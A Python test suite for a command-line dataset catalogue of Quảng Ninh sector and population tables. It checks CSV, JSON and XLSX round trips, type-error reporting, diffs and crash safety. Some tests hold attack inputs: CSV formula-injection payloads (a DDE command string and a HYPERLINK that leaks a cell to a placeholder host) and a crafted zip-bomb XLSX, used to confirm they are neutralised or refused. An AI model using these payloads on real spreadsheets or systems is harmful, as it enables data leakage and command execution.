"""`halong dataset`: the shared database through the real binary, on the real tables of the
shared data (the six Quảng Ninh sector tables, press figures kept with value_as_written and the
source of every row; the area and population of the 54 units of 2025), read back by outside tools
(Debian's /usr/bin/python3 with python3-openpyxl for XLSX): create, load, show, export and read
back; loading from XLSX; a query grouped by type checked by hand; a CSV full of type errors
(each cell named, the good rows loaded); an upsert that changes 3 rows of 1,000 (generated
rows, labelled so) and a diff that shows exactly those; a row with the wrong number of columns; formula injection never executed on export; a zip bomb refused; a
load killed half-way leaving the version before it."""
import csv
import io
import json
import os
import subprocess
import time
import unittest
import zipfile

import hl

DEBIAN_PY = '/usr/bin/python3'
SECTOR_FILES = ['tourism.csv', 'state_budget.csv', 'education.csv', 'health.csv',
                'agriculture_fisheries.csv', 'forest_environment.csv']
SECTOR_OF = {'tourism.csv': 'tourism', 'state_budget.csv': 'taxation',
             'education.csv': 'education', 'health.csv': 'health',
             'agriculture_fisheries.csv': 'agriculture',
             'forest_environment.csv': 'environment'}


def shared_data():
    """The shared data folder (../shared/data from the repository, or HALONG_SHARED_DATA)."""
    cands = [os.environ.get('HALONG_SHARED_DATA'),
             os.path.join(hl.SRC, '..', 'shared', 'data'),
             os.path.join(hl.SRC, '..', '..', 'shared', 'data'),
             '/work/shared/data']
    for c in cands:
        if c and os.path.isfile(os.path.join(c, 'sector', 'tourism.csv')):
            return os.path.abspath(c)
    return None


DATA = shared_data()

# openpyxl (Debian's) reads an XLSX: every row's values and each cell's data type, as JSON.
XLSX_READER = r'''
import json, sys, datetime, openpyxl
wb = openpyxl.load_workbook(sys.argv[1])
ws = wb.active
def v(x):
    if isinstance(x, (datetime.datetime, datetime.date)):
        return x.strftime('%Y-%m-%d')
    return x
print(json.dumps({"rows": [[v(c.value) for c in r] for r in ws.iter_rows()],
                  "types": [[c.data_type for c in r] for r in ws.iter_rows()]}))
'''


def read_xlsx(path):
    p = subprocess.run([DEBIAN_PY, '-c', XLSX_READER, path], capture_output=True, text=True,
                       timeout=120)
    if p.returncode != 0:
        raise AssertionError(f'openpyxl could not read {path}: {p.stderr}')
    return json.loads(p.stdout)


def read_csv_text(text):
    return list(csv.reader(io.StringIO(text)))


def read_csv_file(path):
    with open(path, encoding='utf-8-sig', newline='') as f:
        return list(csv.reader(f))


@unittest.skipIf(DATA is None, 'the shared data (../shared/data) is not there')
class CatalogTest(hl.HomeCase):

    def ok(self, *args, rc=0):
        r = self.h.run(*args)
        self.assertEqual(r.rc, rc, r)
        return r

    def json(self, *args, rc=0):
        return json.loads(self.ok(*args, '--json', rc=rc).out)

    def test_sector_tables_round_trip(self):
        """Each real sector table: created from the file (types from every row), loaded, shown,
        exported as CSV, JSON and XLSX, and every cell read back as written: value_as_written
        and source_url of every row kept."""
        for name in SECTOR_FILES:
            with self.subTest(table=name):
                path = os.path.join(DATA, 'sector', name)
                src = read_csv_file(path)
                header, rows = src[0], src[1:]
                ds = name[:-4].replace('_', '-')
                d = self.json('dataset', 'create', ds, '--title',
                              f'Số liệu ngành {SECTOR_OF[name]} Quảng Ninh (báo chí)',
                              '--from', path, '--sector', SECTOR_OF[name], '--access',
                              'public', '--provenance', 'press figures, ../shared/data/sector')
                types = {f['name']: f['type'] for f in d['schema']['fields']}
                self.assertEqual([f['name'] for f in d['schema']['fields']], header)
                vals = [r[header.index('value')] for r in rows if r[header.index('value')]]
                # the narrowest type every value fits, all rows read
                want = 'integer' if all(v.lstrip('-').isdigit() for v in vals) else 'number'
                self.assertEqual(types['value'], want)
                self.assertEqual(types['value_as_written'], 'string')
                self.assertEqual(types['source_url'], 'string')
                load = self.json('dataset', 'load', ds, path)
                self.assertEqual((load['rows'], load['added'], load['rejected'],
                                  load['version']), (len(rows), len(rows), 0, 1))
                show = self.json('dataset', 'show', ds)
                self.assertEqual((show['version'], show['rows'], show['sector']),
                                 (1, len(rows), SECTOR_OF[name]))
                self.assertEqual(show['versions'][0]['source'], name)
                self.assertEqual(show['versions'][0]['sha256'], hl.sha256_file(path))

                out = read_csv_text(self.ok('dataset', 'export', ds, '--format', 'csv').out)
                self.assertEqual(out[0], header)
                self.assertEqual(len(out) - 1, len(rows))
                vi = header.index('value')
                for got, want in zip(out[1:], rows):
                    for i, (g, w) in enumerate(zip(got, want)):
                        if i == vi and w:
                            self.assertEqual(float(g), float(w), (name, want))
                        elif w[:1] in ('=', '+', '-', '@') and i != vi:
                            # the real notes hold "= 33% …", "+2,4%": never a formula in CSV
                            self.assertEqual(g, "'" + w, (name, header[i], want))
                        else:
                            self.assertEqual(g, w, (name, header[i], want))

                js = json.loads(self.ok('dataset', 'export', ds, '--format', 'json').out)
                self.assertEqual(len(js), len(rows))
                for got, want in zip(js, rows):
                    self.assertEqual(got['value_as_written'], want[header.index(
                        'value_as_written')])
                    self.assertEqual(got['source_url'], want[header.index('source_url')])
                    if want[vi]:
                        self.assertEqual(float(got['value']), float(want[vi]))
                    else:
                        self.assertIsNone(got['value'])

                xlsx = self.h.path(ds + '.xlsx')
                self.json('dataset', 'export', ds, '--format', 'xlsx', '-o', xlsx)
                x = read_xlsx(xlsx)
                self.assertEqual(x['rows'][0], header)
                self.assertEqual(len(x['rows']) - 1, len(rows))
                for got, want in zip(x['rows'][1:], rows):
                    for i, w in enumerate(want):
                        g = got[i] if i < len(got) else None
                        if not w:
                            self.assertIsNone(g)
                        elif i == vi:
                            self.assertEqual(float(g), float(w))
                        else:
                            self.assertEqual(g, w, (name, header[i]))
        listed = self.json('dataset', 'list')['datasets']  # the shape of GET /api/v1/datasets
        self.assertEqual(sorted(d['id'] for d in listed),
                         sorted(n[:-4].replace('_', '-') for n in SECTOR_FILES))

    def test_xlsx_in(self):
        """The real health table written as a workbook by openpyxl (numbers as numbers, an added
        column of dates as dates), then created from and loaded from the XLSX: the same rows as
        the CSV."""
        path = os.path.join(DATA, 'sector', 'health.csv')
        src = read_csv_file(path)
        xlsx = self.h.path('health.xlsx')
        writer = r'''
import csv, datetime, sys, openpyxl
rows = list(csv.reader(open(sys.argv[1], encoding='utf-8')))
wb = openpyxl.Workbook(); ws = wb.active; ws.title = 'Y tế'
ws.append(rows[0] + ['ngay_nhap'])
for i, r in enumerate(rows[1:]):
    v = r[3]
    r[3] = float(v) if v and '.' in v else (int(v) if v else None)
    ws.append([c if c != '' else None for c in r] + [datetime.date(2025, 7, 1 + i % 28)])
wb.save(sys.argv[2])
'''
        p = subprocess.run([DEBIAN_PY, '-c', writer, path, xlsx], capture_output=True,
                           text=True, timeout=120)
        self.assertEqual(p.returncode, 0, p.stderr)
        d = self.json('dataset', 'create', 'health-x', '--title', 'Y tế (từ XLSX)', '--from',
                      xlsx, '--sector', 'health')
        types = {f['name']: f['type'] for f in d['schema']['fields']}
        self.assertEqual(types['ngay_nhap'], 'date')
        self.assertEqual(types['value_as_written'], 'string')
        load = self.json('dataset', 'load', 'health-x', xlsx)
        self.assertEqual((load['added'], load['rejected']), (len(src) - 1, 0))
        js = json.loads(self.ok('dataset', 'export', 'health-x', '--format', 'json').out)
        vi = src[0].index('value')
        for i, (got, want) in enumerate(zip(js, src[1:])):
            for k, name in enumerate(src[0]):
                if k == vi:
                    self.assertEqual(got[name], float(want[k]) if want[k] else None)
                else:
                    self.assertEqual(got[name], want[k] or None, name)
            self.assertEqual(got['ngay_nhap'], f'2025-07-{1 + i % 28:02d}')

    def test_units_population_with_unit_codes(self):
        """The area and population of the 54 units of 2025, with a schema whose code is a unit
        code checked against the units of 1 July 2025: all 54 load; a code of an old commune
        that no longer existed that day is rejected, named; exported XLSX keeps codes' leading
        zeros and population as numbers."""
        self.ok('units', 'load')
        path = os.path.join(DATA, 'units', 'quangninh_ward_area_population_2025.csv')
        src = read_csv_file(path)
        schema = {
            'fields': [
                {'name': 'code', 'title': 'Mã đơn vị hành chính', 'type': 'string',
                 'unitCode': True, 'constraints': {'pattern': '[0-9]{5}'}},
                {'name': 'full_name', 'type': 'string', 'constraints': {'required': True}},
                {'name': 'type', 'type': 'string',
                 'constraints': {'enum': ['phường', 'xã', 'đặc khu']}},
                {'name': 'area_km2', 'type': 'number', 'constraints': {'minimum': 0}},
                {'name': 'population', 'type': 'integer', 'constraints': {'minimum': 0}},
                {'name': 'admin_center', 'type': 'string'},
                {'name': 'lon', 'type': 'number'},
                {'name': 'lat', 'type': 'number'},
                {'name': 'before_merger', 'type': 'string'},
                {'name': 'bando_maxa', 'type': 'integer'}],
            'primaryKey': ['code']}
        sp = self.h.path('pop.json')
        with open(sp, 'w', encoding='utf-8') as f:
            json.dump(schema, f, ensure_ascii=False)
        self.ok('dataset', 'create', 'qn-units-2025', '--title',
                'Diện tích, dân số 54 đơn vị hành chính 2025', '--schema', sp, '--date',
                '2025-07-01', '--sector', 'population', '--access', 'public')
        load = self.json('dataset', 'load', 'qn-units-2025', path)
        self.assertEqual((load['added'], load['rejected']), (54, 0))
        xlsx = self.h.path('pop.xlsx')
        self.ok('dataset', 'export', 'qn-units-2025', '--format', 'xlsx', '-o', xlsx)
        x = read_xlsx(xlsx)
        self.assertEqual(len(x['rows']), 55)
        self.assertEqual(x['rows'][1][0], '06652')
        self.assertEqual(x['types'][1][0], 's')
        self.assertEqual(sum(r[4] for r in x['rows'][1:]),
                         sum(int(r[4]) for r in src[1:]))
        # the population by type of unit, asked of halong and summed here by hand
        q = self.json('dataset', 'query', 'qn-units-2025', '--group-by', 'type', '--count',
                      '--sum', 'population')
        self.assertEqual(q['columns'], ['type', 'count', 'sum'])
        want = {}
        for r in src[1:]:
            c, p = want.get(r[2], (0, 0))
            want[r[2]] = (c + 1, p + int(r[4]))
        self.assertEqual({r[0]: (int(r[1]), int(r[2])) for r in q['rows']}, want)
        q = self.json('dataset', 'query', 'qn-units-2025', '--where',
                      "type = 'đặc khu' and population > 0")
        self.assertEqual(sorted(r[1] for r in q['rows']),
                         sorted(r[1] for r in src[1:] if r[2] == 'đặc khu'))
        self.assertEqual(len(q['rows']), 2)  # Vân Đồn and Cô Tô
        r = self.h.run('dataset', 'query', 'qn-units-2025', '--where', "population = 'x'")
        self.assertEqual(r.rc, 1, r)
        self.assertIn('where: field "population": not an integer', r.err)
        # an old commune's code (Phường Hà Phong, merged on 1 July 2025) on that day
        bad = self.h.path('old.csv')
        rows = [list(r) for r in src]
        rows[1][0] = '06652'
        rows[2][0] = '06649'
        with open(bad, 'w', encoding='utf-8', newline='') as f:
            csv.writer(f).writerows(rows[:3])
        r = self.ok('dataset', 'load', 'qn-units-2025', bad, rc=3)
        self.assertIn('old.csv:3: column 1 "code": no unit 06649 on 2025-07-01', r.err)
        # the same with the schema inferred, the code column named as unit codes
        d = self.json('dataset', 'create', 'qn-units-from', '--title', 'Dân số (suy ra)',
                      '--from', path, '--key', 'code', '--unit', 'code', '--date', '2025-07-01')
        self.assertEqual(d['schema']['fields'][0],
                         {'name': 'code', 'type': 'string', 'unitCode': True,
                          'constraints': {'required': True}})
        self.assertEqual(self.json('dataset', 'load', 'qn-units-from', path)['added'], 54)
        r = self.ok('dataset', 'load', 'qn-units-from', bad, rc=3)
        self.assertIn('old.csv:3: column 1 "code": no unit 06649 on 2025-07-01', r.err)

    def test_type_errors_each_cell_named(self):
        """A CSV full of type errors (test data made here): every bad cell named by line and
        column on stderr and in the rejects file, the good rows loaded, exit 3."""
        schema = {'fields': [{'name': 'id', 'type': 'integer'},
                             {'name': 'when', 'type': 'date'},
                             {'name': 'n', 'type': 'number'},
                             {'name': 'flag', 'type': 'boolean'},
                             {'name': 'where', 'type': 'geopoint'}],
                  'primaryKey': 'id'}
        sp = self.h.path('s.json')
        with open(sp, 'w') as f:
            json.dump(schema, f)
        self.ok('dataset', 'create', 'errs', '--title', 'Thử lỗi (dữ liệu thử)', '--schema', sp)
        rows = [['id', 'when', 'n', 'flag', 'where']]
        bad = {}
        for i in range(1, 41):
            row = [str(i), '2025-07-01', '1.5', 'true', '107.1, 20.9']
            if i % 4 == 0:   # each of these rows: two bad cells
                row[1], row[2] = '2025-13-01', 'mười'
                bad[(i + 1, 2)] = 'when'
                bad[(i + 1, 3)] = 'n'
            if i % 10 == 3:
                row[3], row[4] = 'có', '200, 95'
                bad[(i + 1, 4)] = 'flag'
                bad[(i + 1, 5)] = 'where'
            rows.append(row)
        path = self.h.path('errs.csv')
        with open(path, 'w', newline='') as f:
            csv.writer(f).writerows(rows)
        rej = self.h.path('rejects.csv')
        r = self.h.run('dataset', 'load', 'errs', path, '--rejects', rej, '--json')
        self.assertEqual(r.rc, 3, r)
        out = json.loads(r.out)
        bad_rows = {line for line, _ in bad}
        self.assertEqual(out['rejected'], len(bad_rows))
        self.assertEqual(out['added'], 40 - len(bad_rows))
        self.assertEqual(out['bad_cells'], len(bad))
        for (line, col), field in bad.items():
            self.assertIn(f'errs.csv:{line}: column {col} "{field}": ', r.err)
        got = {(int(x[0]), int(x[1])): x[2] for x in read_csv_file(rej)[1:]}
        self.assertEqual(got, bad)
        loaded = read_csv_text(self.ok('dataset', 'export', 'errs', '--format', 'csv').out)
        self.assertEqual(sorted(int(x[0]) for x in loaded[1:]),
                         [i for i in range(1, 41) if i + 1 not in bad_rows])

    def test_upsert_3_of_1000_and_diff(self):
        """1,000 generated rows (test data, not real figures), then the same file with 3 rows
        changed: 3 changed, 997 unchanged, and the diff shows exactly those 3 with the changed
        columns; the first version still reads as it was; the same file again makes no
        version."""
        def rows(changed):
            out = [['ma', 'ten', 'so_luong', 'ngay']]
            for i in range(1, 1001):
                r = [f'R{i:04d}', f'dòng thử {i} (dữ liệu sinh ra)', str(i * 10),
                     f'2025-07-{i % 28 + 1:02d}']
                if i in changed:
                    r[changed[i][0]] = changed[i][1]
                out.append(r)
            return out
        p1, p2 = self.h.path('g1.csv'), self.h.path('g2.csv')
        with open(p1, 'w', newline='') as f:
            csv.writer(f).writerows(rows({}))
        change = {17: (2, '171'), 500: (1, 'dòng đã sửa'), 999: (3, '2025-08-31')}
        with open(p2, 'w', newline='') as f:
            csv.writer(f).writerows(rows(change))
        self.ok('dataset', 'create', 'gen', '--title', 'Dữ liệu sinh ra để thử', '--from', p1,
                '--key', 'ma')
        self.assertEqual(self.json('dataset', 'load', 'gen', p1)['added'], 1000)
        l2 = self.json('dataset', 'load', 'gen', p2)
        self.assertEqual((l2['changed'], l2['unchanged'], l2['added'], l2['removed'],
                          l2['version']), (3, 997, 0, 0, 2))
        again = self.json('dataset', 'load', 'gen', p2)
        self.assertEqual((again['new_version'], again['version'], again['unchanged']),
                         (False, 2, 1000))
        d = self.json('dataset', 'diff', 'gen', '1', '2')
        self.assertEqual((d['added'], d['removed'], d['changed']), (0, 0, 3))
        names = ['ma', 'ten', 'so_luong', 'ngay']
        got = {r['key'][0]: r['columns'] for r in d['rows']}
        self.assertEqual(got, {f'R{i:04d}': [names[c]] for i, (c, _) in change.items()})
        r17 = [r for r in d['rows'] if r['key'] == ['R0017']][0]
        self.assertEqual((r17['old']['so_luong'], r17['new']['so_luong']), ('170', '171'))
        v1 = read_csv_text(self.ok('dataset', 'export', 'gen', '--version', '1', '--format',
                                   'csv').out)
        self.assertEqual(v1, rows({}))
        v2 = read_csv_text(self.ok('dataset', 'export', 'gen', '--format', 'csv').out)
        self.assertEqual(v2, rows(change))
        # audited: the creation, the two loads that made versions (not the one that did not),
        # and the exports of this internal dataset
        audit = self.json('audit', 'list')['items']
        loads = [e['detail'] for e in audit if e['action'] == 'dataset.load'
                 and e['object'] == 'gen']
        self.assertEqual(len(loads), 2)
        self.assertTrue(loads[0].startswith('version 2 of g2.csv: 0 added, 3 changed'), loads)
        self.assertIn(hl.sha256_file(p2), loads[0])
        self.assertEqual(len([e for e in audit if e['action'] == 'dataset.create']), 1)
        self.assertEqual(len([e for e in audit if e['action'] == 'dataset.export']), 2)

    def test_wrong_number_of_columns(self):
        """A row with fewer or more cells than the header: that row rejected, named; the others
        load."""
        path = self.h.path('cols.csv')
        with open(path, 'w', encoding='utf-8') as f:
            f.write('ma,ten,so\nA,một,1\nB,hai\nC,ba,3,thừa\nD,bốn,4\n')
        self.ok('dataset', 'create', 'cols', '--title', 'Cột (dữ liệu thử)', '--from', path,
                '--key', 'ma')
        r = self.h.run('dataset', 'load', 'cols', path, '--json')
        self.assertEqual(r.rc, 3, r)
        self.assertIn('cols.csv:3: 2 cells, the header has 3: row rejected', r.err)
        self.assertIn('cols.csv:4: 4 cells, the header has 3: row rejected', r.err)
        out = json.loads(r.out)
        self.assertEqual((out['added'], out['rejected']), (2, 2))

    def test_formula_injection_never_executed(self):
        """Cells that a spreadsheet would run as formulas: CSV export prefixes them with ' ;
        XLSX holds them as strings (no <f> element in the sheet), openpyxl reads text."""
        path = self.h.path('f.csv')
        evil = ['=HYPERLINK("http://example.invalid/?x="&A1,"bấm")', '+1+1', '-2+3',
                '@SUM(1,2)', "=cmd|' /C calc'!A0"]
        with open(path, 'w', newline='', encoding='utf-8') as f:
            w = csv.writer(f)
            w.writerow(['ma', 'ghi_chu', 'so'])
            for i, e in enumerate(evil):
                w.writerow([f'K{i}', e, str(-i)])
        self.ok('dataset', 'create', 'inj', '--title', 'Công thức (dữ liệu thử)', '--from', path,
                '--key', 'ma')
        self.ok('dataset', 'load', 'inj', path)
        out = read_csv_text(self.ok('dataset', 'export', 'inj', '--format', 'csv').out)
        self.assertEqual([r[1] for r in out[1:]], ["'" + e for e in evil])
        self.assertEqual([r[2] for r in out[1:]], [str(-i) for i in range(len(evil))])
        xlsx = self.h.path('f.xlsx')
        self.ok('dataset', 'export', 'inj', '--format', 'xlsx', '-o', xlsx)
        with zipfile.ZipFile(xlsx) as z:
            sheet = z.read('xl/worksheets/sheet1.xml').decode()
        self.assertNotIn('<f>', sheet)
        x = read_xlsx(xlsx)
        self.assertEqual([r[1] for r in x['rows'][1:]], evil)
        self.assertEqual({t[1] for t in x['types'][1:]}, {'s'})
        js = json.loads(self.ok('dataset', 'export', 'inj', '--format', 'json').out)
        self.assertEqual([r['ghi_chu'] for r in js], evil)

    def test_zip_bomb_refused_nothing_loaded(self):
        """An XLSX whose sheet inflates 32 MiB of spaces from a few KiB: refused before it is
        inflated, by --from and by a load, and nothing is loaded."""
        bomb = self.h.path('bomb.xlsx')
        main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main'
        rel = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
        with zipfile.ZipFile(bomb, 'w', zipfile.ZIP_DEFLATED) as z:
            z.writestr('xl/workbook.xml',
                       f'<workbook xmlns="{main}" xmlns:r="{rel}"><sheets>'
                       '<sheet name="a" sheetId="1" r:id="rId1"/></sheets></workbook>')
            z.writestr('xl/_rels/workbook.xml.rels',
                       '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                       'relationships"><Relationship Id="rId1" Type="http://schemas.'
                       'openxmlformats.org/officeDocument/2006/relationships/worksheet" '
                       'Target="worksheets/sheet1.xml"/></Relationships>')
            z.writestr('xl/worksheets/sheet1.xml',
                       '<worksheet>' + ' ' * (32 << 20) + '</worksheet>')
        self.assertLess(os.path.getsize(bomb), 1 << 20)
        r = self.h.run('dataset', 'create', 'b', '--title', 'b', '--from', bomb)
        self.assertEqual(r.rc, 1, r)
        self.assertIn('bomb.xlsx: xl/worksheets/sheet1.xml: compressed more than 200:1', r.err)
        path = self.h.path('ok.csv')
        with open(path, 'w') as f:
            f.write('a,b\n1,2\n')
        self.ok('dataset', 'create', 'b', '--title', 'b', '--from', path)
        r = self.h.run('dataset', 'load', 'b', bomb)
        self.assertEqual(r.rc, 1, r)
        self.assertIn('bomb.xlsx', r.err)
        show = self.json('dataset', 'show', 'b')
        self.assertEqual((show['version'], show['rows']), (0, 0))

    def test_file_over_the_limit_refused_before_reading(self):
        """A CSV of 9 GiB (sparse: it takes no disk) is refused from its size, before a byte is
        read, by --from and by a load: nothing is made or loaded. (Loading a 1 GB CSV with memory
        bounded is measured by bench/catalog --full: 165 MB peak for 99 MB, 180 MB for 983 MB.)"""
        big = self.h.path('big.csv')
        with open(big, 'wb') as f:
            f.write(b'a,b\n1,2\n')
            f.truncate(9 << 30)
        r = self.h.run('dataset', 'create', 'lon', '--title', 'lớn', '--from', big)
        self.assertEqual(r.rc, 1, r)
        self.assertIn('big.csv', r.err)
        self.assertIn('over the limit', r.err)
        self.assertNotEqual(self.h.run('dataset', 'show', 'lon').rc, 0)
        path = self.h.path('small.csv')
        with open(path, 'w') as f:
            f.write('a,b\n1,2\n')
        self.ok('dataset', 'create', 'lon', '--title', 'lớn', '--from', path)
        r = self.h.run('dataset', 'load', 'lon', big)
        self.assertEqual(r.rc, 1, r)
        self.assertIn('big.csv: 9663676416 bytes, over the limit', r.err)
        show = self.json('dataset', 'show', 'lon')
        self.assertEqual((show['version'], show['rows']), (0, 0))
        os.unlink(big)

    def test_killed_load_leaves_the_previous_version(self):
        """A load killed half-way (SIGKILL) leaves the version before it whole: one transaction.
        Generated rows, labelled so."""
        p1, p2 = self.h.path('k1.csv'), self.h.path('k2.csv')
        with open(p1, 'w') as f:
            f.write('ma,so\n')
            for i in range(1000):
                f.write(f'K{i},{i}\n')
        with open(p2, 'w') as f:
            f.write('ma,so\n')
            for i in range(600000):
                f.write(f'K{i},{i + 1}\n')
        self.ok('dataset', 'create', 'kill', '--title', 'Dữ liệu sinh ra (thử)', '--from', p1,
                '--key', 'ma')
        self.ok('dataset', 'load', 'kill', p1)
        before = self.ok('dataset', 'export', 'kill', '--format', 'csv').out
        cmd = [hl.BIN, '--home', self.h.home, 'dataset', 'load', 'kill', p2]
        proc = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        time_left = 100
        # killed once it has written rows (the WAL grows), well before it ends
        wal = os.path.join(self.h.home, 'halong.db-wal')
        size0 = os.path.getsize(wal) if os.path.exists(wal) else 0
        while time_left and proc.poll() is None:
            if os.path.exists(wal) and os.path.getsize(wal) > size0 + (2 << 20):
                break
            time.sleep(0.05)
            time_left -= 1
        self.assertIsNone(proc.poll(), 'the load ended before it could be killed')
        proc.kill()
        proc.wait()
        show = self.json('dataset', 'show', 'kill')
        self.assertEqual((show['version'], show['rows'], len(show['versions'])), (1, 1000, 1))
        self.assertEqual(self.ok('dataset', 'export', 'kill', '--format', 'csv').out, before)
        self.assertEqual(self.json('dataset', 'load', 'kill', p1)['new_version'], False)

    def test_bad_schema_named_and_nothing_created(self):
        sp = self.h.path('bad.json')
        with open(sp, 'w') as f:
            json.dump({'fields': [{'name': 'ma', 'type': 'string'},
                                  {'name': 'tien', 'type': 'money'}]}, f)
        r = self.h.run('dataset', 'create', 'x', '--title', 'x', '--schema', sp)
        self.assertEqual(r.rc, 1, r)
        self.assertIn('bad.json: field "tien": unknown type "money"', r.err)
        self.assertEqual(self.json('dataset', 'list')['datasets'], [])
        r = self.h.run('dataset', 'create', 'bad id', '--title', 'x', '--schema', sp)
        self.assertNotEqual(r.rc, 0)


if __name__ == '__main__':
    unittest.main()
